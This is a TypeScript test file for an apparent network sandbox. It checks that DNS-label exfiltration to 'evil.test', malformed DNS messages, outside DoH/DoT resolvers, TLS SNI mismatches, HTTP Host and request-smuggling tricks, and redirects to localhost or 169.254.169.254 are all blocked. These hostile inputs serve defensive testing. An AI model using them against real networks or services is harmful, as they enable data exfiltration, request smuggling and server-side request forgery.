import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import test from "ava";
import { allowing, attempt, listen, runNetworked, type Attempt } from "../helpers/network.js";
import { requires } from "../helpers/requires.js";
import { scratch } from "../helpers/scratch.js";

/** Names: data in queries, hostile messages, and connections that ask for another name than the one they were allowed for. */
const liveTest = requires(test, "userns", "program:python3");

const types = {
  A: 1,
  NS: 2,
  CNAME: 5,
  NULL: 10,
  PTR: 12,
  MX: 15,
  TXT: 16,
  AAAA: 28,
  SRV: 33,
  SVCB: 64,
  HTTPS: 65,
  ANY: 255,
  URI: 256,
} as const;

/** A query as a stub resolver sends it, in hexadecimal. */
function query(name: string, type: number, { questions = 1, id = 0x1234 } = {}): string {
  const labels = name
    .split(".")
    .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
  const tail = Buffer.from([0, type >> 8, type & 255, 0, 1]);
  const question = Buffer.concat([...labels, tail]);
  const head = Buffer.from([id >> 8, id & 255, 1, 0, 0, questions, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([head, ...Array.from({ length: questions }, () => question)]).toString("hex");
}

const [noError, formErr, nxDomain] = [0, 1, 3];

liveTest.serial("data in labels and in any type of query, by UDP and TCP, goes nowhere", async (t) => {
  const box = scratch(t);
  const secret = Buffer.from("the secret of the house, in base 32 or so").toString("hex");
  const stolen = `${secret.slice(0, 60)}.${secret.slice(60)}`;
  const attempts = ["udp", "tcp"].flatMap((transport) => [
    ...Object.values(types).map((type): Attempt => [
      "dns",
      transport,
      "8.8.8.8",
      query(`${stolen}.evil.test`, type),
    ]),
    ...Object.values(types).map((type): Attempt => [
      "dns",
      transport,
      "2001:4860:4860::8888",
      query("allowed.test", type),
    ]),
  ]);
  const { outcomes, of, resolved } = await attempt(t, box, attempts, {
    network: allowing(["allowed.test"], [443]),
  });
  const count = Object.keys(types).length;
  for (const start of [0, 2 * count]) {
    t.deepEqual(outcomes.slice(start, start + count), Array<string>(count).fill(`${nxDomain}/0`));
    t.deepEqual(
      outcomes.slice(start + count, start + 2 * count),
      Object.keys(types).map((type) => `${noError}/${["A", "AAAA", "ANY"].includes(type) ? 1 : 0}`),
    );
  }
  t.deepEqual(resolved, [], "no query left for a name, allowed or not");
  t.is(of("net.dns").filter(({ verdict }) => verdict === "deny").length, 2 * count);
});

liveTest.serial(
  "labels below an allowed wildcard are bounded, and asked for outside only to connect",
  async (t) => {
    const attempts = Array.from({ length: 300 }, (_, index): Attempt => [
      "dns",
      "udp",
      "8.8.8.8",
      query(`data${index}.open.test`, types.A),
    ]);
    const { outcomes, resolved } = await attempt(t, scratch(t), attempts, {
      network: allowing(["*.open.test"], [443]),
    });
    t.is(outcomes.filter((outcome) => outcome === `${noError}/1`).length, 200);
    t.deepEqual(resolved, []);
  },
);

liveTest.serial("a hostile message is answered FORMERR or not at all, and the resolver lives", async (t) => {
  const pointer = `123401000001000000000000c00c00010001`;
  const hostile: readonly string[] = [
    "",
    "00",
    "1234",
    "123401000001000000000000",
    pointer,
    `1234010000010000000000000${"3f".padEnd(3, "f")}`.slice(0, 30),
    query("a.test", types.A, { questions: 2 }),
    query("a.test", types.A, { questions: 0 }),
    `12340100ffffffffffffffff${"00".repeat(64)}`,
    `123481800001000000000000${query("a.test", types.A).slice(24)}`,
    `1234010000010000000000003f${"61".repeat(63)}3f${"61".repeat(63)}3f${"61".repeat(63)}3f${"61".repeat(63)}3f${"61".repeat(63)}0000010001`,
    `${query("a.test", types.A)}${"41".repeat(1000)}`,
  ];
  const large = "ff".repeat(65_500);
  const attempts: Attempt[] = [
    ...hostile.flatMap((message): Attempt[] => [
      ["dns", "udp", "8.8.8.8", message],
      ["dns", "udp", "2001:4860:4860::8888", message],
    ]),
    // An empty message over TCP would wait for what it announces.
    ...hostile.map((message): Attempt => ["dns", "tcp", "8.8.8.8", message]),
    ["dns", "tcp", "8.8.8.8", large],
    ["dns", "udp", "8.8.8.8", "ff".repeat(60_000)],
    ["dns", "udp", "8.8.8.8", query("allowed.test", types.A)],
    ["dns", "tcp", "8.8.8.8", query("allowed.test", types.A)],
  ];
  const { outcomes, result } = await attempt(t, scratch(t), attempts, {
    network: allowing(["allowed.test"], [443]),
  });
  for (const outcome of outcomes.slice(0, -2)) {
    t.regex(String(outcome), new RegExp(`^(none|closed|ECONNRESET|[${formErr}459]/0|${nxDomain}/0)$`));
  }
  t.deepEqual(outcomes.slice(-2), [`${noError}/1`, `${noError}/1`]);
  t.is(result.exitCode, 0);
});

liveTest.serial(
  "resolvers of the program's own, over TLS or HTTPS, are connections like any other: refused",
  async (t) => {
    const { outcomes, of } = await attempt(
      t,
      scratch(t),
      [
        ["blocking", "8.8.8.8", 853],
        ["blocking", "1.1.1.1", 443],
        ["udp", "9.9.9.9", 853, false],
        ["udp", "8.8.8.8", 5353, true],
        ["connect", "dns.google", 443],
      ],
      { network: allowing(["allowed.test"], [443]) },
    );
    t.deepEqual(outcomes, ["ECONNREFUSED", "ECONNREFUSED", "EPERM", "EPERM", "EAI -2"]);
    t.is(
      of("net.connect").filter(({ verdict }) => verdict === "deny").length +
        of("net.send").filter(({ verdict }) => verdict === "deny").length,
      4,
    );
  },
);

liveTest.serial(
  "TLS must ask for the name that the connection is to, however the hello is cut",
  async (t) => {
    const box = scratch(t);
    const received: Buffer[] = [];
    const server = await listen(
      t,
      createServer((socket) => {
        socket.on("data", (chunk: Buffer) => received.push(chunk)).once("data", () => socket.end("served"));
      }),
    );
    const cuts = ["whole", "bytes", "records"];
    const attempts = cuts.flatMap((cut): Attempt[] => [
      ["hello", "allowed.test", server.port, "allowed.test", cut],
      ["hello", "allowed.test", server.port, "evil.test", cut],
      ["hello", "allowed.test", server.port, null, cut],
    ]);
    const { outcomes, of } = await attempt(t, box, attempts, {
      network: allowing(["allowed.test"], [server.port]),
    });
    t.deepEqual(
      outcomes,
      cuts.flatMap(() => ["served", "RESET", "RESET"]),
    );
    t.false(
      Buffer.concat(received).includes("evil.test"),
      "not a byte of a hello for another name went upstream",
    );
    const denied = of("net.tls").filter(({ verdict }) => verdict === "deny");
    t.is(denied.length, 2 * cuts.length);
    t.truthy(denied[0]?.reason);
  },
);

liveTest.serial(
  "HTTP must ask for the name that the connection is to, in each of its requests",
  async (t) => {
    const box = scratch(t);
    const urls: string[] = [];
    const server = await listen(
      t,
      createHttpServer((request, response) => {
        urls.push(`${request.headers.host ?? ""}${request.url ?? ""}`);
        response.end("served");
      }),
    );
    const host = `allowed.test:${server.port}`;
    const close = "Connection: close\r\n\r\n";
    const requests: readonly (readonly [string, readonly string[]])[] = [
      ["another Host", [`GET /1 HTTP/1.1\r\nHost: evil.test\r\n${close}`]],
      ["another port", [`GET /2 HTTP/1.1\r\nHost: allowed.test:1\r\n${close}`]],
      ["no Host", [`GET /3 HTTP/1.1\r\n${close}`]],
      ["two Hosts", [`GET /4 HTTP/1.1\r\nHost: ${host}\r\nHost: evil.test\r\n${close}`]],
      ["an absolute URI", [`GET http://evil.test/5 HTTP/1.1\r\nHost: ${host}\r\n${close}`]],
      ["a folded Host", [`GET /6 HTTP/1.1\r\nHost:\r\n evil.test\r\n${close}`]],
      [
        "a Host before a colon with a space",
        [`GET /7 HTTP/1.1\r\nHost : evil.test\r\nHost: ${host}\r\n${close}`],
      ],
      ["a Host in single bytes", Array.from(`GET /8 HTTP/1.1\r\nHost: evil.test\r\n${close}`)],
      ["CONNECT", [`CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n`]],
      ["bare line feeds", [`GET /9 HTTP/1.1\nHost: evil.test\nConnection: close\n\n`]],
      [
        "a second request",
        [`GET /first HTTP/1.1\r\nHost: ${host}\r\n\r\n`, `GET /10 HTTP/1.1\r\nHost: evil.test\r\n${close}`],
      ],
      [
        "a request hidden in the body of another",
        [
          `POST /first HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /11 HTTP/1.1\r\nHost: evil.test\r\n${close}`,
        ],
      ],
    ];
    const { outcomes, of } = await attempt(
      t,
      box,
      [
        ["talk", "allowed.test", server.port, [`GET /fine HTTP/1.1\r\nHost: ${host}\r\n${close}`]],
        ...requests.map(([, chunks]): Attempt => ["talk", "allowed.test", server.port, chunks, 0.002]),
      ],
      { network: allowing(["allowed.test"], [server.port]) },
    );
    t.regex(String(outcomes[0]), /served/);
    for (const [index, [what]] of requests.entries()) {
      t.regex(String(outcomes[index + 1]), /403 Forbidden|RESET/, what);
    }
    // Nothing but what was judged fit arrives; a request that was may be lost to the reset that the next one brings on.
    t.true(urls.includes(`${host}/fine`));
    t.deepEqual(
      urls.filter((url) => url !== `${host}/fine` && url !== `${host}/first`),
      [],
    );
    t.is(of("net.http").filter(({ verdict }) => verdict === "deny").length, requests.length);
  },
);

liveTest.serial("a redirect to a forbidden address is judged by itself", async (t) => {
  const box = scratch(t);
  const forbidden = await listen(t, createServer());
  const targets = [
    `http://127.0.0.1:${forbidden.port}/`,
    "http://169.254.169.254/latest/meta-data/",
    `http://denied.test:${forbidden.port}/`,
  ];
  const server = await listen(
    t,
    createHttpServer((request, response) => {
      response.writeHead(302, { location: targets[Number(request.url?.slice(1))] }).end();
    }),
  );
  const script = targets
    .map((_, index) => `curl -sL http://allowed.test:${server.port}/${index}; echo $?`)
    .join("; ");
  const { stdout } = await runNetworked(t, box, ["sh", "-c", script], {
    network: allowing(["allowed.test"], [server.port]),
  });
  t.is(stdout, "7\n7\n6\n");
  t.is(forbidden.count(), 0);
});
